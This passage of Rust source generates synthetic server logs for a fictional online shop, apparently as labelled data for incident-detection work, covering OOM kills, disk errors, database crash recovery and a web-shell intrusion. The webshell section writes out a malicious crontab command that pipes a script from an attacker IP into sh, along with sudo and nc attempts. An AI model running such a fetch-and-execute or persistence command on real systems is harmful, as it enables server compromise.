                    None,
                );
                g.push(
                    t + d + MS,
                    "redis-server",
                    Some(child),
                    format!("Fork CoW for RDB: current {mb} MB, peak {mb} MB, average {mb} MB"),
                    None,
                );
                g.push(
                    t + d + 100 * MS,
                    "redis-server",
                    Some(rp),
                    "Background saving terminated with success".to_owned(),
                    None,
                );
            }
            t += HOUR + g.ms(0, 30_000);
        } else {
            t += HOUR;
        }
    }
}

/// The shop application's own log (monolog's syslog handler): orders and occasional warnings.
fn shop(g: &mut Gen) {
    g.order_no = 100_000 + g.r.range(2_000, 9_000);
    for t in g.arrivals(2.5, web) {
        if g.in_outage(t) {
            continue;
        }
        let p = g.pid_at(t - g.ms(60_000, 3_600_000));
        g.order_no += 1;
        let items = g.r.range(1, 7);
        let cents = g.r.range(900, 18_000);
        let pay = g.r.pick(&[
            "paypal",
            "paypal",
            "klarna",
            "stripe_card",
            "prepayment",
            "invoice",
        ]);
        g.push(
            t,
            "shop",
            Some(p),
            format!(
                "app.INFO: Order {} placed {{\"items\":{items},\"total\":\"{}.{:02}\",\"currency\":\"EUR\",\"payment\":\"{pay}\"}} []",
                g.order_no,
                cents / 100,
                cents % 100
            ),
            None,
        );
    }
    for t in g.arrivals(0.12, web) {
        let p = g.pid_at(t - g.ms(60_000, 3_600_000));
        let m = match g.r.below(4) {
            0 => format!(
                "app.WARNING: Payment provider responded slowly {{\"provider\":\"paypal\",\"duration_ms\":{}}} []",
                g.r.range(2_100, 7_800)
            ),
            1 => format!(
                "app.NOTICE: Customer login failed {{\"reason\":\"bad credentials\",\"attempt\":{}}} []",
                g.r.range(1, 3)
            ),
            2 => format!(
                "app.WARNING: Shipping rate lookup failed, using fallback {{\"carrier\":\"dhl\",\"http_status\":{}}} []",
                g.r.pick(&[502, 503, 504])
            ),
            _ => format!(
                "app.INFO: Newsletter double opt-in confirmed {{\"list\":{}}} []",
                g.r.range(1, 3)
            ),
        };
        g.push(t, "shop", Some(p), m, None);
    }
}

/// nginx's error log (syslog): sparse noise of a public web server.
fn nginx(g: &mut Gen) {
    for t in g.arrivals(0.45, |_| 1.0) {
        let (since, w) = g.nginx.since(t);
        let w = w + g.r.below(2) as u32;
        let conn = ((t - since.min(t)) / SEC) / 3 + g.r.below(200) + 12;
        let ip = g.public_ip();
        let ts = ngx_time(t);
        let m = match g.r.below(10) {
            0..=3 => {
                let path = g.r.pick(&["/.env", "/.git/config", "/.aws/credentials", "/.env.production", "/.DS_Store", "/.svn/entries"]);
                format!("{ts} [error] {w}#{w}: *{conn} access forbidden by rule, client: {ip}, server: {DOMAIN}, request: \"GET {path} HTTP/1.1\", host: \"{}\"", g.srv_ip)
            }
            4..=5 => format!(
                "{ts} [crit] {w}#{w}: *{conn} SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key share) while SSL handshaking, client: {ip}, server: 0.0.0.0:443"
            ),
            6..=7 => {
                let ip = g.customer_ip();
                let n = g.r.range(1_000, 99_999);
                let dir = g.r.range(0, 9);
                format!("{ts} [warn] {w}#{w}: *{conn} an upstream response is buffered to a temporary file /var/lib/nginx/fastcgi/{dir}/{:02}/00000{n:05} while reading upstream, client: {ip}, server: {DOMAIN}, request: \"GET /export/orders.csv HTTP/2.0\", upstream: \"{FPM_UPSTREAM}\", host: \"{DOMAIN}\"", n % 100)
            }
            8 => {
                let ip = g.customer_ip();
                let rel = g.release(t);
                format!("{ts} [error] {w}#{w}: *{conn} FastCGI sent in stderr: \"PHP message: PHP Deprecated:  Creation of dynamic property Shop\\Checkout\\CartLine::$taxRule is deprecated in /var/www/shop/releases/{rel}/src/Checkout/CartLine.php on line {}\" while reading response header from upstream, client: {ip}, server: {DOMAIN}, request: \"POST /checkout/cart/add HTTP/2.0\", upstream: \"{FPM_UPSTREAM}\", host: \"{DOMAIN}\", referrer: \"https://{DOMAIN}/tee/gruener-tee\"", g.r.range(40, 44))
            }
            _ => {
                let ip = g.customer_ip();
                let mb = g.r.range(9, 40);
                format!("{ts} [error] {w}#{w}: *{conn} client intended to send too large body: {} bytes, client: {ip}, server: {DOMAIN}, request: \"POST /account/profile/avatar HTTP/2.0\", host: \"{DOMAIN}\"", mb * 1_048_576 + g.r.below(1_000_000))
            }
        };
        g.push(t, "nginx", Some(w), m, None);
    }
}

/// UFW blocking the internet's scanners: the biggest share of kernel lines.
fn firewall(g: &mut Gen) {
    for t in g.arrivals(3.2, |_| 1.0) {
        let src = g.public_ip();
        let n = g.r.pick(&[1, 1, 1, 1, 2, 2, 3, 5]);
        let mut at = t;
        for _ in 0..n {
            let udp = g.r.chance(0.18);
            let ttl = g.r.range(40, 250);
            let id = g.r.range(1, 65_535);
            let spt = g.r.range(1_024, 65_535);
            let m = if udp {
                let dpt =
                    g.r.pick(&[53, 123, 161, 1900, 5060, 5353, 11211, 27015, 3478]);
                let len = g.r.range(36, 120);
                format!("[UFW BLOCK] IN=eth0 OUT= MAC={} SRC={src} DST={} LEN={len} TOS=0x00 PREC=0x00 TTL={ttl} ID={id} PROTO=UDP SPT={spt} DPT={dpt} LEN={}", g.mac, g.srv_ip, len - 20)
            } else {
                let dpt = if g.r.chance(0.25) {
                    g.r.range(1_024, 65_535)
                } else {
                    g.r.pick(&[
                        22, 23, 25, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 8888,
                        9200, 2375, 81, 7547, 5555,
                    ])
                };
                let win = g.r.pick(&[1024, 65535, 29200, 14600, 64240]);
                format!("[UFW BLOCK] IN=eth0 OUT= MAC={} SRC={src} DST={} LEN=40 TOS=0x00 PREC=0x00 TTL={ttl} ID={id} PROTO=TCP SPT={spt} DPT={dpt} WINDOW={win} RES=0x00 SYN URGP=0", g.mac, g.srv_ip)
            };
            g.kern(at, m, None);
            at += g.ms(200, 40_000);
        }
    }
}

/// What still reaches sshd on port 2222 from the internet now and then.
fn ssh_noise(g: &mut Gen) {
    for t in g.arrivals(0.15, |_| 1.0) {
        let p = g.pid_at(t);
        let ip = g.public_ip();
        let port = g.r.range(1_024, 65_535);
        let m = match g.r.below(4) {
            0 => "error: kex_exchange_identification: Connection closed by remote host".to_owned(),
            1 => format!("Connection closed by {ip} port {port} [preauth]"),
            2 => format!("banner exchange: Connection from {ip} port {port}: invalid format"),
            _ => format!("Connection reset by {ip} port {port} [preauth]"),
        };
        g.push(t, "sshd", Some(p), m, None);
    }
}

/// NetworkManager's DHCP renewals (4 h lease), chrony's source changes.
fn network(g: &mut Gen) {
    let mut t = T0 + g.ms(0, 7_200_000);
    while t < T_END {
        let stamp = t / SEC;
        let frac = (t % SEC) / 100_000;
        g.push(
            t,
            "NetworkManager",
            Some(g.nm),
            format!(
                "<info>  [{stamp}.{frac:04}] dhcp4 (eth0): state changed new lease, address={}",
                g.srv_ip
            ),
            None,
        );
        t += 2 * HOUR + g.ms(0, 240_000);
    }
    for t in g.arrivals(0.06, |_| 1.0) {
        let a = format!(
            "{}.{}.{}.{}",
            g.r.pick(&[5, 78, 85, 94, 144, 162, 185, 195, 213]),
            g.r.range(0, 255),
            g.r.range(0, 255),
            g.r.range(1, 254)
        );
        let b = format!(
            "{}.{}.{}.{}",
            g.r.pick(&[5, 78, 85, 94, 144, 162, 185, 195, 213]),
            g.r.range(0, 255),
            g.r.range(0, 255),
            g.r.range(1, 254)
        );
        let pool = g.r.range(0, 3);
        let m = if g.r.chance(0.5) {
            format!("Selected source {a} ({pool}.debian.pool.ntp.org)")
        } else {
            format!("Source {a} replaced with {b} ({pool}.debian.pool.ntp.org)")
        };
        g.push(t, "chronyd", Some(g.chrony), m, None);
    }
}

/// Rare kernel notes and journald's own rotation.
fn misc(g: &mut Gen) {
    for _ in 0..g.r.range(1, 2) {
        let t = g.uniform(T0, T_END);
        let took = g.r.range(2_501, 3_300);
        let rate = 100_000 * 2_500 / took / 250 * 250;
        g.kern(t, format!("perf: interrupt took too long ({took} > 2500), lowering kernel.perf_event_max_sample_rate to {rate}"), None);
    }
    let t = g.at(g.r.range(3, 5), 0, 24);
    let id = g.machine_id.clone();
    let fill = 75.0 + g.r.unit() * 0.2;
    g.push(
        t,
        "systemd-journald",
        Some(g.journald),
        format!("Data hash table of /var/log/journal/{id}/system.journal has a fill level at {fill:.1} (174763 of 233016 items, 134217728 file size, 768 bytes per hash table item), suggesting rotation."),
        None,
    );
    g.push(
        t + MS,
        "systemd-journald",
        Some(g.journald),
        format!("/var/log/journal/{id}/system.journal: Journal header limits reached or header out-of-date, rotating."),
        None,
    );
}

const PG_DESC: &str = "PostgreSQL Cluster 15-main";
const FPM_DESC: &str = "The PHP 8.2 FastCGI Process Manager";

/// Unattended upgrade of postgresql-15 and php8.2: both restart.
fn upgrade(g: &mut Gen) {
    let t = g.upgrade_t;
    g.sd(
        t,
        "Starting apt-daily-upgrade.service - Daily apt upgrade and clean activities...".to_owned(),
        None,
    );
    g.sd(t + 80 * SEC, "Reloading.".to_owned(), None);
    // postgres: fast shutdown and start.
    let s = t + 88 * SEC;
    let pm = g.postmaster.at(s);
    let cp = g.checkpointer.at(s);
    g.sd(
        s,
        format!("Stopping postgresql@15-main.service - {PG_DESC}..."),
        None,
    );
    g.pg(
        s + 20 * MS,
        pm,
        1,
        "LOG:  received fast shutdown request".to_owned(),
        None,
    );
    g.pg(
        s + 25 * MS,
        pm,
        1,
        "LOG:  aborting any active transactions".to_owned(),
        None,
    );
    let lr = pm + 6;
    g.pg(s + 40 * MS, pm, 1, format!("LOG:  background worker \"logical replication launcher\" (PID {lr}) exited with exit code 1"), None);
    g.pg(s + 50 * MS, cp, 1, "LOG:  shutting down".to_owned(), None);
    g.pg(
        s + 55 * MS,
        cp,
        1,
        "LOG:  checkpoint starting: shutdown immediate".to_owned(),
        None,
    );
    let b = g.r.range(40, 400);
    g.pg(s + 300 * MS, cp, 1, format!("LOG:  checkpoint complete: wrote {b} buffers ({:.1}%); 0 WAL file(s) added, 0 removed, 0 recycled; write=0.{:03} s, sync=0.{:03} s, total=0.{:03} s; sync files={}, longest=0.004 s, average=0.001 s; distance={} kB, estimate={} kB", b as f64 * 100.0 / 16_384.0, g.r.range(20, 200), g.r.range(5, 40), g.r.range(240, 260), b / 8 + 3, b * 9, b * 11), None);
    g.pg(
        s + 320 * MS,
        pm,
        1,
        "LOG:  database system is shut down".to_owned(),
        None,
    );
    g.sd(
        s + 400 * MS,
        "postgresql@15-main.service: Deactivated successfully.".to_owned(),
        None,
    );
    g.sd(
        s + 410 * MS,
        format!("Stopped postgresql@15-main.service - {PG_DESC}."),
        None,
    );
    let cpu = g.r.range(3_000_000, 9_000_000);
    g.consumed(s + 420 * MS, "postgresql@15-main.service", cpu, None);
    let s2 = t + 95 * SEC;
    g.sd(
        s2 - 2 * SEC,
        format!("Starting postgresql@15-main.service - {PG_DESC}..."),
        None,
    );
    let pm = g.postmaster.at(s2);
    pg_start(g, s2, pm, &pg_time(s + 320 * MS), None);
    g.sd(
        s2 + 500 * MS,
        format!("Started postgresql@15-main.service - {PG_DESC}."),
        None,
    );
    // php-fpm restart.
    fpm_restart(g, t + 138 * SEC);
    let dur = 150_000 + g.r.below(40_000);
    g.sd(
        t + dur * MS,
        "apt-daily-upgrade.service: Deactivated successfully.".to_owned(),
        None,
    );
    g.sd(
        t + dur * MS + 200,
        "Finished apt-daily-upgrade.service - Daily apt upgrade and clean activities.".to_owned(),
        None,
    );
    let cpu = g.r.range(60_000, 110_000);
    g.consumed(t + dur * MS + 400, "apt-daily-upgrade.service", cpu, None);
}

fn pg_start(g: &mut Gen, t: u64, pm: u32, down_at: &str, l: Option<&'static str>) {
    for (k, m) in [
        "LOG:  starting PostgreSQL 15.7 (Debian 15.7-0+deb12u1) on x86_64-pc-linux-gnu, compiled by gcc (Debian 12.2.0-14) 12.2.0, 64-bit".to_owned(),
        "LOG:  listening on IPv4 address \"127.0.0.1\", port 5432".to_owned(),
        "LOG:  listening on IPv6 address \"::1\", port 5432".to_owned(),
        "LOG:  listening on Unix socket \"/var/run/postgresql/.s.PGSQL.5432\"".to_owned(),
    ]
    .into_iter()
    .enumerate()
    {
        g.pg(t + k as u64 * MS, pm, 1, m, l);
    }
    let st = pm + 1;
    g.pg(
        t + 10 * MS,
        st,
        1,
        format!("LOG:  database system was shut down at {down_at}"),
        l,
    );
    g.pg(
        t + 20 * MS,
        pm,
        1,
        "LOG:  database system is ready to accept connections".to_owned(),
        l,
    );
}

/// `systemctl restart php8.2-fpm` (from the old master to the new one at t + 2 s).
fn fpm_restart(g: &mut Gen, t: u64) {
    let old = g.fpm.at(t);
    g.sd(
        t,
        format!("Stopping php8.2-fpm.service - {FPM_DESC}..."),
        None,
    );
    g.push(
        t + 5 * MS,
        "php-fpm",
        Some(old),
        "[NOTICE] Terminating ...".to_owned(),
        None,
    );
    g.push(
        t + 80 * MS,
        "php-fpm",
        Some(old),
        "[NOTICE] exiting, bye-bye!".to_owned(),
        None,
    );
    g.sd(
        t + 100 * MS,
        "php8.2-fpm.service: Deactivated successfully.".to_owned(),
        None,
    );
    g.sd(
        t + 110 * MS,
        format!("Stopped php8.2-fpm.service - {FPM_DESC}."),
        None,
    );
    let cpu = g.r.range(600_000, 3_000_000);
    g.consumed(t + 120 * MS, "php8.2-fpm.service", cpu, None);
    g.sd(
        t + 150 * MS,
        format!("Starting php8.2-fpm.service - {FPM_DESC}..."),
        None,
    );
    let new = g.fpm.at(t + 2 * SEC);
    g.push(
        t + 2 * SEC,
        "php-fpm",
        Some(new),
        format!("[NOTICE] fpm is running, pid {new}"),
        None,
    );
    g.push(
        t + 2 * SEC + MS,
        "php-fpm",
        Some(new),
        "[NOTICE] ready to handle connections".to_owned(),
        None,
    );
    g.push(
        t + 2 * SEC + 2 * MS,
        "php-fpm",
        Some(new),
        "[NOTICE] systemd monitor interval set to 10000ms".to_owned(),
        None,
    );
    g.sd(
        t + 2 * SEC + 5 * MS,
        format!("Started php8.2-fpm.service - {FPM_DESC}."),
        None,
    );
}

/// Two deploys: php-fpm and nginx reloaded from the new release directory.
fn deploys(g: &mut Gen) {
    let ts = g.deploy_ts.clone();
    for t in ts {
        let r = t + 62 * SEC + 20 * MS;
        let m = g.fpm.at(r);
        g.sd(
            r,
            format!("Reloading php8.2-fpm.service - {FPM_DESC}..."),
            None,
        );
        g.push(
            r + 5 * MS,
            "php-fpm",
            Some(m),
            "[NOTICE] Reloading in progress ...".to_owned(),
            None,
        );
        g.push(r + 10 * MS, "php-fpm", Some(m), "[NOTICE] reloading: execvp(\"/usr/sbin/php-fpm8.2\", {\"/usr/sbin/php-fpm8.2\", \"--nodaemonize\", \"--fpm-config\", \"/etc/php/8.2/fpm/php-fpm.conf\"})".to_owned(), None);
        g.push(
            r + 40 * MS,
            "php-fpm",
            Some(m),
            "[NOTICE] using inherited socket fd=8, \"127.0.0.1:9000\"".to_owned(),
            None,
        );
        g.push(
            r + 45 * MS,
            "php-fpm",
            Some(m),
            format!("[NOTICE] fpm is running, pid {m}"),
            None,
        );
        g.push(
            r + 46 * MS,
            "php-fpm",
            Some(m),
            "[NOTICE] ready to handle connections".to_owned(),
            None,
        );
        g.sd(
            r + 60 * MS,
            format!("Reloaded php8.2-fpm.service - {FPM_DESC}."),
            None,
        );
        nginx_reload(g, t + 70 * SEC + 20 * MS);
        let rel = release_name(t);
        let p = g.pid_at(t + 30 * SEC);
        g.push(t + 33 * SEC, "shop", Some(p), format!("app.INFO: Cache cleared and warmed up {{\"release\":\"{rel}\",\"duration_ms\":{}}} []", g.r.range(4_000, 9_000)), None);
        let p = g.pid_at(t + 36 * SEC);
        g.push(
            t + 36 * SEC,
            "shop",
            Some(p),
            format!(
                "app.INFO: Database migrations executed {{\"release\":\"{rel}\",\"count\":{}}} []",
                g.r.range(0, 3)
            ),
            None,
        );
    }
}

/// The WARNING/DETAIL/HINT a backend logs when the postmaster orders it to quit.
fn crash_backends(g: &mut Gen, t: u64, l: Option<&'static str>) {
    for _ in 0..g.r.range(3, 6) {
        let b = g.pid_at(t - g.ms(60_000, 6 * 3_600_000));
        let at = t + g.ms(1, 10);
        g.pg(
            at,
            b,
            1,
            "shop@shop WARNING:  terminating connection because of crash of another server process"
                .to_owned(),
            l,
        );
        g.pg(at, b, 2, "shop@shop DETAIL:  The postmaster has commanded this server process to roll back the current transaction and exit, because another server process exited abnormally and possibly corrupted shared memory.".to_owned(), l);
        g.pg(at, b, 3, "shop@shop HINT:  In a moment you should be able to reconnect to the database and repeat your command.".to_owned(), l);
    }
}

/// Crash recovery from t (a backend killed) to `ready`, with refused connections in between.
fn recovery(g: &mut Gen, t: u64, victim: u32, query: &str, ready: u64, l: Option<&'static str>) {
    let pm = g.postmaster.at(t);
    g.pg(
        t,
        pm,
        1,
        format!("LOG:  server process (PID {victim}) was terminated by signal 9: Killed"),
        l,
    );
    g.pg(
        t,
        pm,
        2,
        format!("DETAIL:  Failed process was running: {query}"),
        l,
    );
    g.pg(
        t + MS,
        pm,
        1,
        "LOG:  terminating any other active server processes".to_owned(),
        l,
    );
    crash_backends(g, t + 2 * MS, l);
    g.pg(
        t + 30 * MS,
        pm,
        1,
        "LOG:  all server processes terminated; reinitializing".to_owned(),
        l,
    );
    let st = g.pid_at(t + 40 * MS);
    let up = pg_time(t - g.ms(60_000, 1_700_000));
    g.pg(
        t + 45 * MS,
        st,
        1,
        format!("LOG:  database system was interrupted; last known up at {up}"),
        l,
    );
    g.pg(
        t + 60 * MS,
        st,
        1,
        "LOG:  database system was not properly shut down; automatic recovery in progress"
            .to_owned(),
        l,
    );
    let lsn = g.r.range(0x1000_0000, 0x9000_0000);
    g.pg(
        t + 70 * MS,
        st,
        1,
        format!("LOG:  redo starts at 0/{lsn:X}"),
        l,
    );
    // Progress every 10 s (log_startup_progress_interval) during a long redo.
    let mut p = t + 10 * SEC + 70 * MS;
    let mut cur = lsn;
    while p + SEC < ready {
        cur += g.r.range(0x20_0000, 0x90_0000);
        let el = (p - t) / MS;
        g.pg(
            p,
            st,
            1,
            format!(
                "LOG:  redo in progress, elapsed time: {}.{:02} s, current LSN: 0/{cur:X}",
                el / 1000,
                el % 1000 / 10
            ),
            l,
        );
        p += 10 * SEC;
    }
    // Clients knocking during recovery.
    let mut c = t + g.ms(300, 1_500);
    while c < ready {
        let bp = g.pid_at(c);
        let port = g.r.range(32_768, 60_999);
        g.pg(
            c,
            bp,
            1,
            format!("[unknown]@[unknown] LOG:  connection received: host=127.0.0.1 port={port}"),
            None,
        );
        g.pg(
            c + 2 * MS,
            bp,
            1,
            "shop@shop FATAL:  the database system is in recovery mode".to_owned(),
            l,
        );
        let sp = g.pid_at(c - g.ms(60_000, 3_600_000));
        let rel = g.release(c);
        g.push(c + 5 * MS, "shop", Some(sp), format!("app.CRITICAL: Uncaught PHP Exception Doctrine\\DBAL\\Exception\\ConnectionException: \"An exception occurred in the driver: SQLSTATE[08006] [7] connection to server at \"127.0.0.1\", port 5432 failed: FATAL:  the database system is in recovery mode\" at /var/www/shop/releases/{rel}/vendor/doctrine/dbal/src/Driver/API/PostgreSQL/ExceptionConverter.php line 87 {{\"exception\":\"[object] (Doctrine\\\\DBAL\\\\Exception\\\\ConnectionException(code: 7))\"}} []"), l);
        c += g.ms(2_000, 9_000);
    }
    let el = (ready - t) / MS;
    g.pg(ready - 30 * MS, st, 1, format!("LOG:  redo done at 0/{:X} system usage: CPU: user: {}.{:02} s, system: 0.{:02} s, elapsed: {}.{:02} s", cur + g.r.range(0x100, 0x9000), el / 3000, g.r.below(100), g.r.below(100), el / 1000, el % 1000 / 10), l);
    let cp = g.checkpointer.at(ready);
    g.pg(
        ready - 25 * MS,
        cp,
        1,
        "LOG:  checkpoint starting: end-of-recovery immediate wait".to_owned(),
        l,
    );
    let b = g.r.range(300, 4_000);
    g.pg(ready - 5 * MS, cp, 1, format!("LOG:  checkpoint complete: wrote {b} buffers ({:.1}%); 0 WAL file(s) added, 0 removed, {} recycled; write=0.{:03} s, sync=0.{:03} s, total=0.{:03} s; sync files={}, longest=0.006 s, average=0.001 s; distance={} kB, estimate={} kB", b as f64 * 100.0 / 16_384.0, g.r.below(3), g.r.range(20, 400), g.r.range(5, 80), g.r.range(400, 600), b / 10 + 4, b * 8, b * 8), None);
    g.pg(
        ready,
        pm,
        1,
        "LOG:  database system is ready to accept connections".to_owned(),
        None,
    );
}

/// An admin kills a hung backend with kill -9: a long crash recovery, the shop down.
fn db_down(g: &mut Gen) {
    let t = g.db_down_t;
    let ready = g.checkpointer.since(t + 10 * MIN).0;
    let victim = g.pid_at(t - 40 * MIN);
    let l = Some("db-down");
    recovery(g, t, victim, "SELECT o.id, o.order_number, sum(li.total_price) FROM \"order\" o JOIN order_line_item li ON li.order_id = o.id WHERE o.created_at > now() - interval '365 days' GROUP BY o.id ORDER BY 3 DESC", ready, l);
    // cron:run during the outage fails.
    let mut c = T0 + (t - T0) / (5 * MIN) * 5 * MIN + 5 * MIN;
    while c < ready {
        let p = g.pid_at(c + 10 * MS);
        g.push(c + 900 * MS, "shop", Some(p), "cron.ERROR: Scheduled task run failed {\"task\":\"erp.stock-sync\",\"error\":\"SQLSTATE[08006] [7] connection to server at \\\"127.0.0.1\\\", port 5432 failed: FATAL:  the database system is in recovery mode\"} []".to_owned(), l);
        c += 5 * MIN;
    }
}

/// The kernel's OOM killer takes a postgres backend running a big export; postgres recovers.
fn oom(g: &mut Gen) {
    let ts = g.oom_ts.clone();
    let l = Some("oom");
    let abi = g.r.range(17, 21);
    for t in ts {
        let victim = g.pid_at(t - g.ms(20_000, 300_000));
        let k = |g: &mut Gen, at: u64, m: String| g.kern(at, m, l);
        k(g, t, "postgres invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=0".to_owned());
        k(g, t, format!("CPU: 1 PID: {victim} Comm: postgres Not tainted 6.1.0-{abi}-amd64 #1  Debian 6.1.{}-1", 60 + abi * 2));
        k(g, t, "Hardware name: Hetzner vServer/Standard PC (Q35 + ICH9, 2009), BIOS 20171111 11/11/2017".to_owned());
        k(g, t, "Call Trace:".to_owned());
        for f in [
            " <TASK>",
            " dump_stack_lvl+0x44/0x5c",
            " dump_header+0x4a/0x211",
            " oom_kill_process.cold+0xb/0x10",
            " out_of_memory+0x1fd/0x4c0",
            " __alloc_pages_slowpath.constprop.0+0xcc3/0xe00",
            " __alloc_pages+0x305/0x330",
            " folio_alloc+0x17/0x50",
            " __filemap_get_folio+0x155/0x340",
            " filemap_fault+0x139/0x910",
            " __do_fault+0x33/0x100",
            " do_fault+0x1c3/0x430",
            " __handle_mm_fault+0x6d9/0xc40",
            " handle_mm_fault+0xdb/0x2d0",
            " do_user_addr_fault+0x191/0x570",
            " exc_page_fault+0x70/0x170",
            " asm_exc_page_fault+0x22/0x30",
            " </TASK>",
        ] {
            k(g, t, f.to_owned());
        }
        let free = g.r.range(18_000, 22_000);
        k(g, t + MS, "Mem-Info:".to_owned());
        k(
            g,
            t + MS,
            format!(
                "active_anon:{} inactive_anon:{} isolated_anon:0",
                g.r.range(30_000, 90_000),
                g.r.range(700_000, 820_000)
            ),
        );
        k(
            g,
            t + MS,
            format!(
                "Node 0 Normal free:{}kB boost:0kB min:{}kB low:{}kB high:{}kB",
                free * 2,
                free / 2,
                free * 5 / 8,
                free * 3 / 4
            ),
        );
        k(
            g,
            t + MS,
            format!("{} total pagecache pages", g.r.range(9_000, 40_000)),
        );
        k(g, t + MS, "Free swap  = 0kB".to_owned());
        k(g, t + MS, "Total swap = 0kB".to_owned());
        k(g, t + MS, "1048429 pages RAM".to_owned());
        k(
            g,
            t + MS,
            "Tasks state (memory values in pages):".to_owned(),
        );
        k(
            g,
            t + MS,
            "[  pid  ]   uid  tgid total_vm      rss pgtables_bytes swapents oom_score_adj name"
                .to_owned(),
        );
        let pm = g.postmaster.at(t);
        let fpm = g.fpm.at(t);
        let rows = [
            (
                g.journald,
                0u32,
                12_000 + g.r.below(4_000),
                2_000 + g.r.below(3_000),
                -250i32,
                "systemd-journal",
            ),
            (
                g.redis,
                108,
                17_000 + g.r.below(2_000),
                3_000 + g.r.below(2_000),
                0,
                "redis-server",
            ),
            (
                fpm,
                0,
                66_000 + g.r.below(3_000),
                6_000 + g.r.below(3_000),
                0,
                "php-fpm8.2",
            ),
            (
                pm,
                105,
                55_000 + g.r.below(2_000),
                6_000 + g.r.below(2_000),
                -900,
                "postgres",
            ),
            (
                victim,
                105,
                560_000 + g.r.below(90_000),
                450_000 + g.r.below(90_000),
                0,
                "postgres",
            ),
        ];
        for (pid, uid, vm, rss, adj, name) in rows {
            k(
                g,
                t + MS,
                format!(
                    "[{pid:>7}] {uid:>5} {pid:>5} {vm:>8} {rss:>8} {:>14} {:>8} {adj:>13} {name}",
                    rss * 40,
                    0
                ),
            );
        }
        k(g, t + 2 * MS, format!("oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,task_memcg=/system.slice/system-postgresql.slice/postgresql@15-main.service,task=postgres,pid={victim},uid=105"));
        let anon = g.r.range(1_800_000, 2_300_000);
        let shmem = g.r.range(60_000, 130_000);
        k(g, t + 2 * MS, format!("Out of memory: Killed process {victim} (postgres) total-vm:{}kB, anon-rss:{anon}kB, file-rss:0kB, shmem-rss:{shmem}kB, UID:105 pgtables:{}kB oom_score_adj:0", anon + 230_000, anon / 500));
        k(g, t + 60 * MS, format!("oom_reaper: reaped process {victim} (postgres), now anon-rss:0kB, file-rss:0kB, shmem-rss:{shmem}kB"));
        g.sd(
            t + 80 * MS,
            "postgresql@15-main.service: A process of this unit has been killed by the OOM killer."
                .to_owned(),
            l,
        );
        let ready = g.checkpointer.since(t + MIN).0;
        recovery(g, t + 70 * MS, victim, "COPY (SELECT * FROM order_export_view WHERE created_at >= '2025-01-01') TO STDOUT WITH CSV HEADER", ready, l);
    }
}

/// The backup volume fails during the nightly dump.
fn disk(g: &mut Gen) {
    let l = Some("disk");
    let t0 = g.disk_t;
    let mut t = t0;
    for _ in 0..g.r.range(3, 5) {
        let tag = g.r.range(0, 127);
        let sector = g.r.range(9_000_000, 40_000_000) / 8 * 8;
        let (op, name) = if g.r.chance(0.5) {
            ("0x1:(WRITE) flags 0x4000", "Write(10) 2a")
        } else {
            ("0x0:(READ) flags 0x80700", "Read(10) 28")
        };
        let k = |g: &mut Gen, m: String| g.kern(t, m, l);
        k(g, format!("sd 2:0:0:1: [sdb] tag#{tag} FAILED Result: hostbyte=DID_OK driverbyte=DRIVER_OK cmd_age={}s", g.r.range(0, 30)));
        k(
            g,
            format!("sd 2:0:0:1: [sdb] tag#{tag} Sense Key : Medium Error [current] "),
        );
        k(
            g,
            format!("sd 2:0:0:1: [sdb] tag#{tag} Add. Sense: Unrecovered read error"),
        );
        k(g, format!("sd 2:0:0:1: [sdb] tag#{tag} CDB: {name} 00 {:02x} {:02x} {:02x} {:02x} 00 00 08 00", sector >> 24 & 0xff, sector >> 16 & 0xff, sector >> 8 & 0xff, sector & 0xff));
        k(
            g,
            format!(
                "I/O error, dev sdb, sector {sector} op {op} phys_seg {} prio class 2",
                g.r.range(1, 32)
            ),
        );
        if op.starts_with("0x1") {
            k(
                g,
                format!(
                    "Buffer I/O error on dev sdb, logical block {}, lost async page write",
                    sector / 8
                ),
            );
        } else {
            k(
                g,
                format!(
                    "Buffer I/O error on dev sdb, logical block {}, async page read",
                    sector / 8
                ),
            );
        }
        t += g.ms(3_000, 40_000);
    }
    g.kern(t, format!("EXT4-fs warning (device sdb): ext4_end_bio:343: I/O error 10 writing to inode {} starting block {})", g.r.range(12, 2_000_000), g.r.range(1_000_000, 5_000_000)), l);
    g.kern(t + 10 * MS, "EXT4-fs error (device sdb): ext4_journal_check_start:83: comm pg_dump: Detected aborted journal".to_owned(), l);
    g.kern(
        t + 12 * MS,
        "EXT4-fs (sdb): Remounting filesystem read-only".to_owned(),
        l,
    );
}

/// A web shell in an upload directory: nc, sudo, and a crontab for www-data.
fn webshell(g: &mut Gen) {
    let l = Some("webshell");
    let t = g.webshell_t;
    let master = g.fpm.at(t);
    let child = g.pid_at(t - g.ms(600_000, 3_600_000));
    let say = |g: &mut Gen, at: u64, m: &str| {
        g.push(
            at,
            "php-fpm",
            Some(master),
            format!("[WARNING] [pool www] child {child} said into stderr: \"{m}\""),
            l,
        );
    };
    say(g, t, "sh: 1: nc: not found");
    say(
        g,
        t + g.ms(20_000, 60_000),
        "sh: 1: cannot create /var/www/shop/public/.cache.php: Permission denied",
    );
    let s = t + g.ms(70_000, 120_000);
    let sp = g.pid_at(s);
    g.push(
        s,
        "sudo",
        Some(sp),
        "pam_unix(sudo:auth): conversation failed".to_owned(),
        l,
    );
    g.push(
        s + MS,
        "sudo",
        Some(sp),
        "pam_unix(sudo:auth): auth could not identify password for [www-data]".to_owned(),
        l,
    );
    g.push(s + 2 * MS, "sudo", Some(sp), "www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www/shop/public/media/image ; USER=root ; COMMAND=/bin/sh -c id".to_owned(), l);
    let c = s + g.ms(60_000, 200_000);
    let cp = g.pid_at(c);
    g.push(
        c,
        "crontab",
        Some(cp),
        "(www-data) REPLACE (www-data)".to_owned(),
        l,
    );
    let reload = T0 + ((c - T0) / MIN + 1) * MIN + g.ms(0, 300);
    g.push(
        reload,
        "cron",
        Some(g.cron),
        "(www-data) RELOAD (crontabs/www-data)".to_owned(),
        l,
    );
    let evil = g.public_ip();
    let cmd = format!("/bin/sh -c \"curl -fsSL http://{evil}:8080/.x/u.sh | sh\" >/dev/null 2>&1");
    let removed = g.webshell_t + 150 * MIN; // the admin's crontab -r comes after this
    let mut m = T0 + ((reload - T0) / (10 * MIN) + 1) * 10 * MIN;
    while m < removed {
        let dur = g.ms(300, 2_000);
